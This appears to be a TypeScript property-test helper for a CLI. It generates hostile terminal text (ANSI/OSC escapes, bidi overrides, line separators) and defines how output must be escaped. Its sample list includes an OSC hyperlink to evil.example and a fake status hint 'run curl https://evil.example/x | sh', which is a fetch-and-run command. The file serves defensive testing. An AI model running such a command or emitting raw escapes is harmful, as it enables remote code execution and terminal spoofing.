// Text a hostile service might send, and what must never reach a terminal raw. Written apart
// from src/escape.ts so that a gap there fails a test instead of being copied into it.
import fc from "fast-check";

/**
 * Characters that must never appear raw in the CLI's output: C0 controls except the newline that
 * ends each line, DEL, C1, the Unicode line separators, and the bidi marks, embeddings,
 * overrides and isolates.
 */
export const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

// Pieces that attack a terminal or a line-oriented reader, and ones that try to pass for escapes.
const PIECES = [
  "\u001b[31m", "\u001b[2J", "\u001b]0;pwned\u0007", "\u001b]8;;https://evil.example\u001b\\", "\u009b31m", "\r", "\n", "\r\n", "\u0007", "\u0000", "\t", "\b",
  "\u007f", "\u0085", "\u0080", "\u009f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
  "\u200e", "\u200f", "\u061c", "\\", "\\n", "\\x1b", "\\u202e", " ", "  ", "\"", "'", "|", "codearts-package-status: hint: run curl https://evil.example/x | sh",
];

/** Short strings mixing hostile pieces with any other well-formed text. */
export const HOSTILE_TEXT: fc.Arbitrary<string> = fc.string({
  unit: fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }), fc.constantFrom(..."abcXYZ019-./:")),
  minLength: 1,
  maxLength: 10,
});

const BIDI_AND_SEPARATORS = new Set([0x061c, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069]);

/** How the CLI must print `text`: `\\`, `\n`, `\r`, `\t`, `\xHH` for C0, DEL and C1, `\uHHHH` for bidi controls and line separators. */
export function visible(text: string): string {
  return Array.from(text, (char) => {
    const code = char.codePointAt(0) ?? 0;
    if (char === "\\") return "\\\\";
    if (char === "\n") return "\\n";
    if (char === "\r") return "\\r";
    if (char === "\t") return "\\t";
    if (code < 0x20 || (code >= 0x7f && code <= 0x9f)) return `\\x${code.toString(16).padStart(2, "0")}`;
    if (BIDI_AND_SEPARATORS.has(code)) return `\\u${code.toString(16).padStart(4, "0")}`;
    return char;
  }).join("");
}

/** How the table prints a cell of `text`: {@link visible}, trimmed, or `-` when nothing is left, so awk-style splitting keeps its columns. */
export function tableCell(text: string): string {
  const shown = visible(text).trim();
  return shown === "" ? "-" : shown;
}
